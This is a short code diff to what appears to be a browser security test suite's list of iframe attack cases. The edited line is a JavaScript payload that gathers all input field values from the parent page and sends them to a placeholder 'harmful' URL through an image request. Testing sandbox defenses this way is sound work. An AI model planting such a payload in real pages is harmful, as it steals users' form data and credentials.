@@ -65,7 +65,7 @@ export const taking: Attack[] = [
     ways: ['write', 'srcdoc'],
     markup: ({ harmful }) =>
       code(
-        `var v = []; parent.document.querySelectorAll('input').forEach(function (f) { v.push(f.value) }); new Image().src = '${harmful}?' + v`,
+        `var v = []; parent.document.querySelectorAll('input').forEach(function (f) { v.push(f.value) }); if (v.join('')) new Image().src = '${harmful}?' + v`,
       ),
   },
   {
